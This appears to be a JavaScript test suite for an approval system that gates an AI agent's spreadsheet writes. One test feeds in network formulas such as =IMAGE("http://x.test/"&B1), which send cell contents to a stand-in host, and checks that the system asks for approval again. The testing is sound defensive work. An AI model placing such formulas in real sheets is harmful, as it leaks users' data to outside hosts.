// Approvals: a call that writes waits until somebody with the right answers; the first answer wins; arguments may be
// edited; a network formula among them asks again; a reconnecting client finds what waits in its snapshot.

import { equal, fails, ok } from "../lib/check.mjs";
import { gate, say, script, tool } from "../lib/script.mjs";

async function waiting(t, args = { cell: "A1", text: "1" }, settings = {}) {
  const { tab, sessionId, watch } = await t.session(settings);
  const rounds = [[tool("write_cell", args)], [say("Done.")]];
  const { runId } = await tab.send(sessionId, t.id("m"), script(t.id("mark"), ...rounds));
  await watch.until(() => watch.of("approval_needed", runId).length > 0, "the approval");
  return { tab, sessionId, watch, runId, needed: watch.of("approval_needed", runId)[0] };
}

async function ends(run, outcome) {
  equal((await run.watch.done(run.runId)).outcome, "completed", "the run's outcome");
  equal(run.watch.of("tool_complete", run.runId).map((event) => event.outcome), [outcome], "the call's outcome");
}

export async function approved(t) {
  const run = await waiting(t);
  equal(run.needed.arguments, { cell: "A1", text: "1" }, "the arguments that are asked about");
  equal(run.needed.reason, "In the mode agent-default, tools that write need approval.", "the reason");
  ok(run.needed.expiresAt > run.needed.time, "it expires");
  const answer = await run.tab.invoke("ResolveApproval", run.sessionId, run.needed.callId, { approve: true });
  equal(answer, { accepted: true, resolution: { approve: true, by: "anonymous", scope: "call" } }, "the answer");
  await ends(run, "success");
  const order = run.watch.events.filter((event) => event.callId === run.needed.callId).map((event) => event.type);
  equal(order.filter((type) => type !== "tool_input"), ["tool_start", "approval_needed", "approval_resolved", "tool_complete"], "the order");
}

export async function denied(t) {
  const run = await waiting(t);
  await run.tab.invoke("ResolveApproval", run.sessionId, run.needed.callId, { approve: false, reason: "Not there." });
  await ends(run, "denied");
  equal(run.watch.of("tool_complete", run.runId)[0].error, "Not there.", "the reason");
}

export async function the_first_answer_wins(t) {
  const run = await waiting(t);
  const other = await t.connect();
  const answers = await Promise.all([
    run.tab.invoke("ResolveApproval", run.sessionId, run.needed.callId, { approve: true }),
    other.invoke("ResolveApproval", run.sessionId, run.needed.callId, { approve: false }),
  ]);
  equal(answers.map((answer) => answer.accepted).sort(), [false, true], "who was first");
  equal(answers[0].resolution, answers[1].resolution, "what both learn");
  await ends(run, answers[0].resolution.approve ? "success" : "denied");
}

export async function edited_arguments(t) {
  const run = await waiting(t);
  const edited = { cell: "B2", text: "=SUM(A1:A9)" };
  await run.tab.invoke("ResolveApproval", run.sessionId, run.needed.callId, { approve: true, arguments: edited });
  await ends(run, "success");
  equal(run.watch.of("approval_resolved", run.runId)[0].arguments, edited, "the arguments that it ran with");
  equal(run.watch.of("tool_complete", run.runId)[0].result, edited, "what was written");
}

export async function a_network_formula_slipped_in_asks_again(t) {
  const run = await waiting(t, { cell: "A1", text: '=WEBSERVICE("http://x.test")' }, { autonomy: "agent-yolo" });
  const slipped = { cell: "A1", text: '=IMAGE("http://x.test/"&B1)' };
  await run.tab.invoke("ResolveApproval", run.sessionId, run.needed.callId, { approve: true, arguments: slipped });
  await run.watch.until(() => run.watch.of("approval_needed", run.runId).length > 1, "the second approval");
  const again = run.watch.of("approval_needed", run.runId)[1];
  equal([again.callId, again.attempt, again.arguments], [run.needed.callId, 2, slipped], "what is asked");
  const denies = { approve: false, attempt: 2 };
  ok((await run.tab.invoke("ResolveApproval", run.sessionId, run.needed.callId, denies)).accepted, "the second answer");
  await ends(run, "denied");
}

export async function a_client_that_comes_later_finds_it(t) {
  const run = await waiting(t);
  const other = await t.connect();
  const watch = await other.watch(run.sessionId);
  const [pending] = watch.events[0].run.pendingApprovals;
  equal(pending.callId, run.needed.callId, "the approval in the snapshot");
  equal((await other.invoke("ResolveApproval", run.sessionId, pending.callId, { approve: true })).accepted, true, "it counts");
  await ends(run, "success");
}

export async function stopped_while_it_waits(t) {
  const run = await waiting(t);
  await run.tab.invoke("Stop", run.sessionId);
  equal((await run.watch.done(run.runId)).outcome, "stopped", "the run's outcome");
  equal(run.watch.of("tool_complete", run.runId)[0].outcome, "interrupted", "the call's outcome");
  const late = run.tab.invoke("ResolveApproval", run.sessionId, run.needed.callId, { approve: true });
  await fails(late, /\[call_closed\]/, "the late answer");
  const next = await run.tab.send(run.sessionId, t.id("m"), script(t.id("mark"), [say("And on.")]));
  equal((await run.watch.done(next.runId)).outcome, "completed", "the next message's outcome");
}

export async function never_behind_other_calls(t) {
  const run = await waiting(t);
  const held = t.id("gate");
  const slow = run.tab.invoke("GetSession", `slow:${held}`).catch(() => "failed");
  await run.tab.invoke("ResolveApproval", run.sessionId, run.needed.callId, { approve: true });
  await ends(run, "success");
  await t.ask("open", held);
  await slow;
}

export async function what_is_wrong(t) {
  const run = await waiting(t);
  const resolve = (callId, answer) => run.tab.invoke("ResolveApproval", run.sessionId, callId, answer);
  await fails(resolve("call_unknown", { approve: true }), /\[call_closed\]/, "a call that is not there");
  await fails(resolve(run.needed.callId, { approve: "yes" }), /\[invalid_arguments\]/, "an answer that is neither");
  await fails(resolve(run.needed.callId, { approve: true, scope: "ever" }), /\[invalid_arguments\]/, "a scope that is not there");
  await resolve(run.needed.callId, { approve: true });
  await ends(run, "success");
}
